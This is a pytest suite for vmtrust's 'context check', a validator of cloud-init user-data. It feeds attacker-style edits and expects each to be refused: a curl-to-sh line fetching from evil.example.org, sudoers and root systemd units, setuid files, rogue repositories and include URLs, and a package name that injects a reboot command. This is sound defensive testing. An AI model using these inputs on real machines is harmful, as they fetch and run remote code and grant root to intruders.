"""``context check``: only what vmtrust itself generates for the site passes.

Every bypass here was accepted by the deny-list check this replaces: each test
takes user-data vmtrust built for the site (which passes), changes one thing
the way an attacker or a sloppy template would, and expects a refusal naming
it.  A refusal of the VO's request reads the same and exits the same as
``context build`` refusing the same request from a VO profile.
"""

from __future__ import annotations

import contextlib
import email
import gzip
import random
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from typing import Any

import pytest
import yaml
from context_support import (
    CVMFS_KEY,
    DROP,
    GPG_KEY,
    PROXY,
    SECRET,
    SITE,
    changed,
    load,
    run_cli,
    site_file,
    vo_file,
    write_yaml,
)

from vmtrust import context
from vmtrust.context import scripts
from vmtrust.context.compose import Part, compose
from vmtrust.context.userdata import package


@pytest.fixture
def built(tmp_path) -> tuple[context.SiteProfile, context.VoProfile, bytes]:
    site, vo = load(tmp_path)
    return site, vo, context.build(site, vo)


def mime(*parts: tuple[str, str, str]) -> bytes:
    """A multipart user-data of (filename, subtype, body) parts, as other tools make them."""
    message = MIMEMultipart(boundary="==test==")
    for filename, subtype, body in parts:
        item = MIMEText(body, subtype, "us-ascii")
        item.add_header("Content-Disposition", "attachment", filename=filename)
        message.attach(item)
    return message.as_bytes()


def edited(site, vo, change_config=None, change_parts=None) -> list[str]:
    """The check's problems for vmtrust's own output of (site, vo) after one change."""
    config, parts = compose(site, vo)
    if change_config:
        change_config(config)
    if change_parts:
        parts = change_parts(parts)
    return context.explain(package(config, parts), site)[1]


def replace_part(name: str, old: str, new: str):
    def change(parts: list[Part]) -> list[Part]:
        out = []
        for item in parts:
            if item.filename == name:
                assert old in item.body, old
                item = Part(item.filename, item.content_type, item.body.replace(old, new))
            out.append(item)
        return out

    return change


def local(config: dict[str, Any]) -> dict[str, Any]:
    return next(i for i in config["write_files"] if i["path"] == "/etc/cvmfs/default.local")


# --- vmtrust's own output passes ---------------------------------------------------------

OWN = {
    "full": ({}, {}),
    "no-pilot": ({}, {"pilot": DROP}),
    "no-cvmfs-no-pilot": ({"cvmfs": DROP}, {"pilot": DROP, "cvmfs": DROP, "packages": DROP}),
    "no-runcmd": ({"vo_may.runcmd": False}, {"runcmd": DROP}),
    "everything": (
        {
            "cvmfs.proxy": "auto;http://squid.example.org:3128",
            "cvmfs.pac_urls": ["http://wpad.example.org/wpad.dat"],
            "cvmfs.fallback_proxy": "http://fallback.example.org:3128",
            "cvmfs.install": "preinstalled",
            "cvmfs.allowed_repositories": ["*.cern.ch", "*.example.org"],
            "cvmfs.domains": {"example.org": {"server_urls": ["http://s1.example.org/cvmfs/@fqrn@"],
                                              "keys": [CVMFS_KEY, CVMFS_KEY]}},
            "package_sources": {"proxy": "http://squid.example.org:3128", "epel": True,
                                "cvmfs_mirror": {"el": "https://m.example.org/el/$basearch/",
                                                 "gpg_key": GPG_KEY}},
            "scratch": {"device": "ephemeral0", "mount": "/scratch"},
            "machine_features": {"hs06_per_cpu": 10.5, "jobslots": 2, "extra": {"site_x": "y"}},
            "joboutputs": {"upload_url": "https://out.example.org/up", "heartbeat_seconds": 0},
        },
        {"cvmfs.repositories": ["cms.cern.ch", "sw.example.org"],
         "pilot.arguments": ["$(id)", "a b", "'"], "pilot.environment": {"A": "x=y", "B": "`"}},
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", list(OWN))
@pytest.mark.parametrize("flavour", [None, context.Flavour(8, 16000, 0, 40)], ids=["boot", "fl"])
@pytest.mark.parametrize("compress", [False, True], ids=["plain", "gzip"])
def test_vmtrust_output_passes_its_own_check(tmp_path, name, flavour, compress):
    site_changes, vo_changes = OWN[name]
    site, vo = load(tmp_path, site=site_changes, vo=vo_changes)
    data = context.build(site, vo, flavour=flavour, compress=compress)
    lines, problems = context.explain(data, site)
    assert problems == []
    assert SECRET not in "\n".join(lines)


# --- every bypass of the old deny-list is refused ----------------------------------------

BYPASSES = [
    # (change to the cloud-config, change to the parts, expected problem)
    (lambda c: c.update(user={"name": "vo", "ssh_authorized_keys": ["ssh-ed25519 AAAAvo"]}),
     None, "00-vmtrust.cfg: user: vmtrust does not write it"),
    (lambda c: c.update(system_info={"default_user": {"name": "vo", "sudo": "ALL=(ALL) ALL"}}),
     None, "00-vmtrust.cfg: system_info: vmtrust does not write it"),
    (lambda c: c.update(password="secret", ssh_pwauth=True),
     None, "00-vmtrust.cfg: ssh_pwauth: differs from what vmtrust writes"),
    (lambda c: c.update(password="secret", ssh_pwauth=True),
     None, "00-vmtrust.cfg: password: vmtrust does not write it"),
    (lambda c: c["rsyslog"].update(service_reload_command=["sh", "-c", "id > /root/x"]),
     None, "00-vmtrust.cfg: rsyslog: differs from what vmtrust writes"),
    (lambda c: c.update(yum_repos={"evil": {"baseurl": "http://evil.example.org/"}}),
     None, "00-vmtrust.cfg: yum_repos: vmtrust does not write it"),
    (lambda c: c.update(apt={"sources": {"evil": {"source": "deb http://evil.example.org/ x y"}}}),
     None, "00-vmtrust.cfg: apt: vmtrust does not write it"),
    (lambda c: c.update(snap={"commands": ["snap install evil"]}),
     None, "00-vmtrust.cfg: snap: vmtrust does not write it"),
    (lambda c: c["ca_certs"].update(remove_defaults=True),
     None, "00-vmtrust.cfg: ca_certs: differs from what vmtrust writes"),
    (lambda c: c["write_files"].insert(1, {"path": "/etc/cvmfs/default.local", "append": True,
                                           "content": "$(curl -s http://evil.example.org|sh)\n"}),
     None, "write_files: /etc/cvmfs/default.local: written twice"),
    (lambda c: local(c).update(content=local(c)["content"]
                               + "CVMFS_SERVER_URL=http://evil.example.org/cvmfs/@fqrn@\n"),
     None, "write_files: /etc/cvmfs/default.local: content differs from what vmtrust writes for "
           "site EXAMPLE-SITE (line 6: CVMFS_SERVER_URL=http://evil.example.org/cvmfs/@fqrn@)"),
    (lambda c: local(c).update(content=f"# {PROXY}\nCVMFS_HTTP_PROXY=DIRECT\n"),
     None, "write_files: /etc/cvmfs/default.local: content differs"),
    (lambda c: c.update(bootcmd=["echo early"]), None, "00-vmtrust.cfg: bootcmd: vmtrust does not"),
    (lambda c: c["write_files"].append({"path": "/etc/sudoers.d/vo", "owner": "root:root",
                                        "permissions": "0440", "content": "vo ALL=(ALL) ALL\n"}),
     None, "the VO's request: write_files[1].path: /etc/sudoers.d/vo is a site-controlled"),
    (lambda c: c.update(runcmd=["id > /root/pwned"]), None, "00-vmtrust.cfg: runcmd: vmtrust does"),
    (lambda c: c.update(packages=["nginx"]), None, "00-vmtrust.cfg: packages: vmtrust does not"),
    (lambda c: c.update(merge_how="list(append)+dict(no_replace)"), None, "merge_how"),
    (lambda c: c["users"][1].update(sudo="ALL=(ALL) NOPASSWD:ALL"), None,
     "00-vmtrust.cfg: users: differs from what vmtrust writes for site EXAMPLE-SITE (accounts"),
    (lambda c: c["users"].append({"name": "intruder"}), None, "users: differs"),
    (lambda c: c["ssh_authorized_keys"].append("ssh-ed25519 AAAAother"), None,
     "ssh_authorized_keys: differs"),
    (lambda c: c.pop("rsyslog"), None, "00-vmtrust.cfg: rsyslog: missing"),
    (lambda c: c.update(disable_ec2_metadata=False), None, "disable_ec2_metadata: differs"),
    # 1.0 == True in Python, but cloud-init reads 1.0 as false: the metadata service stays open
    (lambda c: c.update(disable_ec2_metadata=1.0), None, "disable_ec2_metadata: differs"),
    (lambda c: next(i for i in c["write_files"] if i["path"] == "/etc/vo/token")
     .update(defer=1.0), None, "write_files: /etc/vo/token: defer differs"),
    (lambda c: c.update(power_state={"mode": "poweroff", "delay": "+9999"}), None, "power_state"),
    (lambda c: c.update(mounts=[["/dev/vdb", "/etc"]]), None, "00-vmtrust.cfg: mounts: vmtrust"),
    (lambda c: next(i for i in c["write_files"] if i["path"].endswith("vmtrust-pilot.service"))
     .update(content="[Service]\nUser=root\nExecStart=/usr/local/libexec/vmtrust/pilot-start\n"),
     None, "write_files: /etc/systemd/system/vmtrust-pilot.service: content differs"),
    (lambda c: c["write_files"].append({"path": "/etc/systemd/system/evil.service",
                                        "owner": "root:root", "permissions": "0644",
                                        "content": "[Service]\nExecStart=/bin/sh\n"}),
     None, "/etc/systemd/system/evil.service is a site-controlled location"),
    (lambda c: next(i for i in c["write_files"] if i["path"] == scripts.LAUNCHER)
     .update(owner="root:root"), None, "pilot-start: owner differs"),
    (lambda c: c["write_files"].append({"path": "/opt/vo/tool", "owner": "root:root",
                                        "permissions": "4755", "content": "x"}),
     None, "write_files[1].permissions: setuid and setgid files are not allowed"),
    (None, lambda p: [*p, Part("40-extra.sh", "text/x-shellscript", "#!/bin/sh\nid\n")],
     "40-extra.sh: a shell script vmtrust does not write for site EXAMPLE-SITE"),
    (None, replace_part(scripts.PILOT, 'runuser -u "$PILOT" -- setpriv --no-new-privs ', ""),
     "30-vmtrust-pilot.sh: differs from what vmtrust writes for site EXAMPLE-SITE (line "),
    (None, replace_part(scripts.PILOT, "systemctl start --wait vmtrust-pilot.service",
                        "/usr/local/libexec/vmtrust/pilot-start"),
     "30-vmtrust-pilot.sh: differs"),
    (None, replace_part(scripts.MACHINE, "systemctl enable --now vmtrust-watchdog.service", "true"),
     "10-vmtrust-machine.sh: differs"),
    (None, lambda p: [x for x in p if x.filename != scripts.MACHINE],
     "10-vmtrust-machine.sh: missing"),
    (None, replace_part(scripts.MACHINE, "\nLIFETIME=43200\n", "\nLIFETIME=9999999\n"),
     "the VO's request: lifetime: 9999999 s is more than the site allows (86400 s)"),
    (None, replace_part(scripts.MACHINE, "\nTOTAL_CPU=$(nproc)\n", "\nTOTAL_CPU=0\n"),
     "10-vmtrust-machine.sh: TOTAL_CPU: must be a positive number"),
    (None, replace_part(scripts.MACHINE, "\nTOTAL_CPU=$(nproc)\n", "\nTOTAL_CPU='8\n"),
     "10-vmtrust-machine.sh: TOTAL_CPU: must be a positive number"),
    (None, replace_part(scripts.SOFTWARE, "VO_PACKAGES=python3-requests",
                        "VO_PACKAGES='python3-requests nginx'"),
     "the VO's request: packages: nginx is not on the site's package allow-list"),
    (None, replace_part(scripts.SOFTWARE, "VO_PACKAGES=python3-requests",
                        "VO_PACKAGES='python3-requests;reboot'"),
     "the VO's request: packages: not a package name"),
    (None, replace_part(scripts.VO_COMMANDS, "if [ -s", "true; if [ -s"),
     "25-vmtrust-vo.sh: differs"),
    (None, lambda p: [*p, p[-1]], "30-vmtrust-pilot.sh: 2 parts of that name"),
    (None, lambda p: [*p, Part("runcmd", "text/x-shellscript", "#!/bin/sh\nid\n")],
     "runcmd: a shell script vmtrust does not write"),
]  # fmt: skip
BYPASS_IDS = [
    "legacy-user", "system-info", "ssh-pwauth", "password", "rsyslog-reload", "yum-repos", "apt",
    "snap", "ca-remove-defaults", "default-local-append", "server-url", "proxy-direct",
    "bootcmd", "sudoers", "runcmd", "packages-key", "merge-how", "pilot-sudo", "extra-user",
    "ssh-key", "no-syslog", "metadata-open", "metadata-float", "defer-float", "power-state",
    "mounts", "unit-root", "extra-unit",
    "launcher-owner", "setuid", "extra-part", "pilot-as-root", "pilot-without-unit",
    "lifetime-disarmed", "no-machine-part", "lifetime-too-long", "flavour-zero", "flavour-quote",
    "package",
    "package-injection", "vo-part-changed", "duplicate-part", "runcmd-part",
]  # fmt: skip


@pytest.mark.parametrize(("config", "parts", "expected"), BYPASSES, ids=BYPASS_IDS)
def test_each_bypass_of_the_old_check_is_refused(built, config, parts, expected):
    site, vo, _ = built
    assert edited(site, vo) == []
    problems = edited(site, vo, config, parts)
    assert any(expected in problem for problem in problems), problems


def test_runcmd_is_refused_as_build_refuses_it_when_the_site_says_no(tmp_path):
    site, vo = load(tmp_path)
    strict = context.load_site(site_file(tmp_path, **{"vo_may.runcmd": False}))
    # a root runcmd in the cloud-config, or vmtrust's own VO-commands part
    problems = edited(strict, vo, lambda c: c.update(runcmd=["id"]))
    assert "the VO's request: runcmd: not allowed by the site" in problems
    problems = context.explain(context.build(site, vo), strict)[1]
    assert problems == ["the VO's request: runcmd: not allowed by the site"]


KNOWN_PARTS = [
    ("part-handler", "#part-handler\ndef handle_part(*a):\n    pass\n", "text/part-handler"),
    ("x-include-url", "#include\nhttps://evil.example.org/more\n", "text/x-include-url"),
    ("plain", "#include\nhttps://evil.example.org/more\n", "text/x-include-url"),
    ("cloud-boothook", "#cloud-boothook\n#!/bin/sh\necho early\n", "text/cloud-boothook"),
    ("plain", "## template: jinja\n#!/bin/sh\necho {{ v1.instance_id }}\n", "text/jinja2"),
    ("plain", "#cloud-config-archive\n- type: text/x-shellscript\n", "text/cloud-config-archive"),
    ("x-unknown", "whatever\n", "text/x-unknown"),
]


@pytest.mark.parametrize(("subtype", "body", "kind"), KNOWN_PARTS,
                         ids=["part-handler", "include", "include-as-plain", "boothook", "jinja",
                              "archive", "unknown"])  # fmt: skip
def test_check_refuses_risky_part_types(built, subtype, body, kind):
    site, _, data = built
    own = [(p.filename, p.content_type.split("/")[1], p.body) for p in context.unpack(data)]
    assert context.explain(mime(*own), site)[1] == []  # the same without the extra part
    lines, problems = context.explain(mime(*own, ("99-extra", subtype, body)), site)
    assert problems[0].startswith(f"99-extra: {kind} not allowed: it ")
    assert any(line.startswith(f"99-extra: {kind} — ") for line in lines)
    # without a site the parts are explained, nothing is refused
    assert context.explain(mime(*own, ("99-extra", subtype, body)))[1] == []


@pytest.mark.parametrize(
    ("subtype", "body", "kind"),
    [
        # cloud-init re-types text/x-shellscript and text/plain parts by their first line
        ("x-shellscript", "#cloud-config\nusers: [intruder]\n", "text/cloud-config"),
        ("x-shellscript", "#part-handler\ndef handle_part(*a):\n    pass\n",
         "text/part-handler"),
        ("plain", "#Cloud-Boothook\necho early\n", "text/cloud-boothook"),
        ("plain", "  #include https://evil.example.org/more\n", "text/x-include-url"),
        ("x-not-multipart", "#include-once\nhttps://evil.example.org/\n",
         "text/x-include-once-url"),
        ("x-shellscript-per-boot", "#!/bin/sh\necho every boot\n",
         "text/x-shellscript-per-boot"),
    ],
    ids=["script-is-config", "script-is-handler", "boothook-case", "include-space",
         "include-once", "per-boot"],
)  # fmt: skip
def test_check_sees_parts_as_cloud_init_types_them(built, subtype, body, kind):
    site, _, data = built
    parts = [(p.filename, p.content_type.split("/")[1], p.body) for p in context.unpack(data)]
    extra = mime(*parts, ("40-extra.sh", subtype, body))
    assert context.unpack(extra)[-1].content_type == kind
    assert context.explain(extra, site)[1] != []


def test_check_refuses_two_cloud_config_parts(built):
    site, _, data = built
    own = [(p.filename, p.content_type.split("/")[1], p.body) for p in context.unpack(data)]
    lines, problems = context.explain(mime(*own, ("z.cfg", "cloud-config", own[0][2])), site)
    assert problems[0].startswith("2 cloud-config parts")
    assert "note: later cloud-config parts replace top-level keys of earlier ones" in lines


def test_check_of_user_data_built_for_another_site_is_refused(tmp_path, built):
    site, _, data = built
    other = context.load_site(
        site_file(tmp_path, **{"cvmfs.proxy": "http://other.example.org:3128",
                               "syslog": ["@other.example.org:514"]})
    )  # fmt: skip
    problems = context.explain(data, other)[1]
    assert any(p.startswith("00-vmtrust.cfg: rsyslog: differs") for p in problems)
    assert any("/etc/cvmfs/default.local: content differs" in p for p in problems)
    assert context.explain(data, site)[1] == []


def test_check_refuses_user_data_without_any_cloud_config(built):
    site, _, _ = built
    lines, problems = context.explain(b"#!/bin/sh\necho hello\n", site)
    assert lines[1].startswith("part-001: shell script")
    assert any(p.startswith("part-001: a shell script vmtrust does not write") for p in problems)
    assert any(p.startswith("00-vmtrust.cfg: rsyslog: missing") for p in problems)
    assert any(p.startswith(f"{scripts.MACHINE}: missing") for p in problems)


@pytest.mark.parametrize(
    ("body", "problem"),
    [("#cloud-config\nusers: [a\n", "not valid YAML"), ("#cloud-config\n- a\n", "not a mapping")],
)
def test_check_refuses_unreadable_cloud_config(built, body, problem):
    site, _, _ = built
    _, problems = context.explain(body.encode(), site)
    assert problems[0] == f"part-001: cloud-config is {problem}"


@pytest.mark.parametrize(
    "config",
    [
        {"users": [None]},
        {"users": [{"name": {"x": 1}}]},
        {"rsyslog": ["@@x:514"]},
        {"write_files": [{"path": 5}, "x", None]},
        {"write_files": "x"},
        {"ca_certs": {"trusted": [{"a": 1}]}},
    ],
)
def test_check_refuses_cloud_config_of_unexpected_shape_without_crashing(built, config):
    site, _, _ = built
    data = f"#cloud-config\n{yaml.safe_dump(config)}".encode()
    assert context.explain(data, site)[1] != []


# --- build and check refuse the same request the same way ---------------------------------

SAME_REFUSALS = [
    {"packages": ["python3-requests", "nginx"]},
    {"cvmfs.repositories": ["cms.cern.ch", "atlas.example.org"]},
    {"lifetime": 200000},
    {"runcmd": ["id"]},
    {"write_files": [{"path": "/srv/x", "content": "x\n"}]},
    {"pilot.config": {"path": "/srv/pilot.cfg", "content": "x"}},
    {"packages": ["nginx"], "write_files": [{"path": "/srv/x", "content": "x\n"}],
     "runcmd": ["id"]},
]  # fmt: skip


@pytest.mark.parametrize("changes", SAME_REFUSALS, ids=lambda c: "+".join(c))
def test_a_strict_site_refuses_a_request_in_build_and_in_check_alike(tmp_path, changes):
    """A hostile VO's user-data, made where everything is allowed, meets a strict site."""
    strict = write_yaml(tmp_path / "strict.yaml", SITE | {"vo_may": {"packages": ["python3*"]}})
    loose = changed(SITE, {"vo_may": {"packages": ["*"], "file_prefixes": ["/"], "runcmd": True},
                           "cvmfs.allowed_repositories": ["*"],
                           "lifetime.max_seconds": 300000})  # fmt: skip
    loose_site = context.load_site(write_yaml(tmp_path / "loose.yaml", loose))
    vo_path = vo_file(tmp_path, **({"runcmd": DROP} | changes))
    user_data = tmp_path / "user-data"
    user_data.write_bytes(context.build(loose_site, context.load_vo(vo_path, loose_site)))

    built = run_cli("context", "build", "--site", str(strict), "--vo", str(vo_path))
    checked = run_cli("context", "check", str(user_data), "--site", str(strict))
    assert built.returncode == checked.returncode == 20
    from_build = [line.split(": ", 2)[2] for line in built.stderr.decode().splitlines()]
    refusals = [x for x in checked.stdout.decode().splitlines() if x.startswith("refused: ")]
    from_check = [line.removeprefix("refused: the VO's request: ") for line in refusals]
    assert len(from_build) == len(changes)
    assert from_check == from_build


def test_cli_check_prints_every_problem_and_one_summary(tmp_path, built):
    site, vo, _ = built
    config, parts = compose(site, vo)
    config.update(bootcmd=["x"], snap={"commands": ["y"]}, yum_repos={"z": {}})
    bad = tmp_path / "bad"
    bad.write_bytes(package(config, parts))
    result = run_cli("context", "check", str(bad), "--site", str(site_file(tmp_path)))
    assert result.returncode == 20
    refused_lines = [x for x in result.stdout.decode().splitlines() if x.startswith("refused: ")]
    assert len(refused_lines) == 3
    err = result.stderr.decode()
    assert err.count("\n") == 1 and "3 thing(s) the policy of site EXAMPLE-SITE refuses" in err
    assert "more problem" not in err and "Traceback" not in err


def test_cli_check_exit_status(tmp_path, built):
    site, vo, _ = built
    site_path = site_file(tmp_path)
    good = tmp_path / "good"
    good.write_bytes(context.build(site, vo, compress=True))
    result = run_cli("context", "check", str(good), "--site", str(site_path))
    assert result.returncode == 0, result.stdout
    assert result.stdout.decode().splitlines()[-1] == "allowed by the policy of site EXAMPLE-SITE"
    assert result.stderr == b""
    # without a site it only explains; from stdin too
    result = run_cli("context", "check", "-", stdin=good.read_bytes())
    assert result.returncode == 0
    assert f"{scripts.PILOT}: shell script" in result.stdout.decode()


def test_cli_check_prints_untrusted_text_as_single_lines(tmp_path, built):
    site, vo, _ = built
    config, parts = compose(site, vo)
    config["write_files"].append({"path": "/opt/x\nallowed by the policy\x1b[2J", "content": ""})
    data = tmp_path / "ud"
    data.write_bytes(package(config, parts))
    result = run_cli("context", "check", str(data), "--site", str(site_file(tmp_path)))
    assert result.returncode == 20
    out = result.stdout.decode()
    assert "\x1b" not in out and "\x1b" not in result.stderr.decode()
    assert not any(line.startswith("allowed by the policy") for line in out.splitlines())
    assert "  writes /opt/x\\nallowed by the policy\\x1b[2J (mode 0644, owner root:root)" in out


def test_cli_check_unreadable_user_data(tmp_path):
    result = run_cli("context", "check", str(tmp_path / "missing"))
    assert result.returncode == 3
    err = result.stderr.decode()
    assert err.count("\n") == 1 and "Traceback" not in err


def test_secrets_do_not_appear_in_check_output(tmp_path, built):
    site, vo, _ = built
    config, parts = compose(site, vo)
    token = next(i for i in config["write_files"] if i["path"] == "/etc/vo/token")
    token["owner"] = "root:root"  # now refused, and its content must still not be shown
    data = tmp_path / "ud"
    data.write_bytes(package(config, parts))
    result = run_cli("context", "check", str(data), "--site", str(site_file(tmp_path)))
    assert result.returncode == 20
    assert SECRET.encode() not in result.stdout + result.stderr


# --- reading user-data as cloud-init does -------------------------------------------------


def test_explain_describes_each_part(built):
    site, _, data = built
    lines, problems = context.explain(data, site)
    assert problems == []
    assert lines[0] == f"5 part(s), {len(data)} bytes"
    assert "00-vmtrust.cfg: cloud-config" in lines
    assert "  writes /etc/vo/token (mode 0600, owner cmspilot:cmspilot, after users exist)" in lines
    assert "  forwards syslog to @@syslog.example.org:514" in lines
    assert "  blocks access to the metadata service" in lines
    assert "  creates users: default, cmspilot" in lines
    assert any(line.startswith(f"{scripts.MACHINE}: shell script") for line in lines)
    assert any(line.endswith("starts the pilot as the unprivileged user") for line in lines)
    assert SECRET not in "\n".join(lines)


def test_explain_handles_gzip_like_plain(built):
    site, vo, data = built
    packed = context.build(site, vo, compress=True)
    lines, problems = context.explain(packed, site)
    assert problems == []
    assert lines[1:] == context.explain(data, site)[0][1:]


def test_explain_damaged_gzip_is_an_error(built):
    site, vo, _ = built
    packed = context.build(site, vo, compress=True)
    with pytest.raises(context.UserDataError, match="gzip data is damaged"):
        context.explain(packed[:-20], site)
    corrupt = bytearray(packed)
    corrupt[len(corrupt) // 2] ^= 0xFF  # inside the deflate stream: a zlib error
    with pytest.raises(context.UserDataError, match="gzip data is damaged"):
        context.explain(bytes(corrupt), site)


def test_explain_survives_random_damage(built):
    site, _, plain = built
    rng = random.Random(3)
    for n in range(300):
        data = bytearray(plain if n % 2 else gzip.compress(plain, mtime=0))
        for _ in range(rng.randint(1, 6)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        with contextlib.suppress(context.UserDataError):
            context.explain(bytes(data), site)


def test_check_gunzips_gzip_parts_and_types_them_by_content(built):
    from email.mime.application import MIMEApplication

    site, _, data = built
    message = email.message_from_bytes(data)
    handler = MIMEApplication(gzip.compress(b"#part-handler\ndef handle_part(*a): pass\n"), "gzip")
    message.attach(handler)
    parts = context.unpack(message.as_bytes())
    assert parts[-1].content_type == "text/part-handler"
    problems = context.explain(message.as_bytes(), site)[1]
    assert len(problems) == 1 and "text/part-handler not allowed" in problems[0]
    broken = MIMEApplication(gzip.compress(b"#!/bin/sh\n")[:-6], "gzip")
    message.attach(broken)
    with pytest.raises(context.UserDataError, match="gzip part is damaged"):
        context.explain(message.as_bytes(), site)
